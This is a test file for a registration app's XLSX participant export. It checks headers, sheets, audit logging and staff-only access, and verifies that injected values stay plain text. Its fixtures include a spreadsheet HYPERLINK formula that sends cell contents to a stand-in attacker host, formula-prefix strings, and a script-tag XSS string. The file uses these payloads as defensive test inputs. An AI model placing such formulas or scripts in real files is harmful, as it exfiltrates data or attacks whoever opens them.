import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import { useTestApp } from '../../test/test-app.ts';
import { addr } from './registration-jobs.fixtures.ts';
import { createRegEvent, registerAndConfirm } from './registration.fixtures.ts';

async function readBook(payload: Buffer) {
  const book = new ExcelJS.Workbook();
  await book.xlsx.load(payload as unknown as ArrayBuffer);
  return book;
}
const rowValues = (sheet: ExcelJS.Worksheet, n: number) => (sheet.getRow(n).values as unknown[]).slice(1);

describe('participant list as XLSX', () => {
  const t = useTestApp();

  it('has the CSV columns, a workshop sheet, and keeps formulas, umlauts and <script> as plain text', async () => {
    const ev = await createRegEvent(t, { capacity: 10, workshops: [{ capacity: 1 }] });
    const [ws] = ev.workshops as [string];
    const client = await t.client().init();
    const formula = '=HYPERLINK("https://evil.example/?d="&A1,"Klick")';
    const script = '<script>alert(1)</script> Ümit Öztürk-Weiß';
    const first = addr('formel');
    await registerAndConfirm(t, client, ev.slug, first, { name: formula, organisation: '+SUM(1;1)', workshopSessionIds: [ws] });
    t.advance(1000); // the list is in the order of confirmation
    await registerAndConfirm(t, client, ev.slug, addr('skript'), {
      name: script,
      organisation: '@SUM(A1)',
      participantType: 'buerger',
      accessibilityNeeds: '-2+3 Rollstuhlplatz',
      workshopSessionIds: [ws],
    });

    const staff = (await t.signIn({ role: 'staff', org: 'amz' })).client;
    const res = await staff.get(`/api/events/${ev.id}/registrations.xlsx`);
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
    expect(res.headers['content-disposition']).toBe(`attachment; filename="anmeldungen-${ev.slug}.xlsx"`);
    expect(res.headers['cache-control']).toBe('no-store');

    const book = await readBook(res.rawPayload);
    const people = book.getWorksheet('Anmeldungen')!;
    const csv = await staff.get(`/api/events/${ev.id}/registrations.csv`);
    const csvHeader = csv.body
      .replace(/^\uFEFF/, '')
      .split('\r\n')[0]!
      .split(';');
    expect(rowValues(people, 1)).toEqual(csvHeader);
    expect(people.rowCount).toBe(3);

    const a = rowValues(people, 2);
    expect(a.slice(0, 4)).toEqual([formula, first, '+SUM(1;1)', 'Unternehmen']);
    expect(a.slice(5, 6)).toEqual(['bestätigt']);
    expect(a[7]).toBe('Workshop 1 (bestätigt)');
    const b = rowValues(people, 3);
    expect(b[0]).toBe(script);
    expect(b.slice(2, 5)).toEqual(['@SUM(A1)', 'Bürgerinnen und Bürger', '-2+3 Rollstuhlplatz']);
    expect(b[7]).toBe('Workshop 1 (Warteliste)');
    // Text cells, no formulas anywhere.
    people.eachRow((row) =>
      row.eachCell((cell) => {
        expect(cell.type).toBe(ExcelJS.ValueType.String);
        expect(cell.formula).toBeUndefined();
      }),
    );

    const seats = book.getWorksheet('Workshops')!;
    expect(rowValues(seats, 1)).toEqual(['Workshop', 'Beginn', 'Name', 'E-Mail', 'Organisation', 'Status']);
    expect(seats.rowCount).toBe(3);
    expect(rowValues(seats, 2)).toEqual(['Workshop 1', '2027-06-10T10:00:00+02:00', formula, first, '+SUM(1;1)', 'bestätigt']);
    expect(rowValues(seats, 3)[2]).toBe(script);
    expect(rowValues(seats, 3)[5]).toBe('Warteliste');

    const audit = await t.database.db
      .selectFrom('audit_event')
      .select('details')
      .where('action', '=', 'registration.exported')
      .where('target_id', '=', ev.id)
      .execute();
    expect(audit.map((r) => JSON.parse(r.details) as unknown)).toContainEqual({ rows: 2, format: 'xlsx' });
  });

  it('is for staff only', async () => {
    const ev = await createRegEvent(t, { capacity: 10 });
    const anonymous = await t.client().init();
    expect((await anonymous.get(`/api/events/${ev.id}/registrations.xlsx`)).statusCode).toBe(401);
    const analyst = (await t.signIn({ role: 'analyst' })).client;
    expect((await analyst.get(`/api/events/${ev.id}/registrations.xlsx`)).statusCode).toBe(403);
  });
});
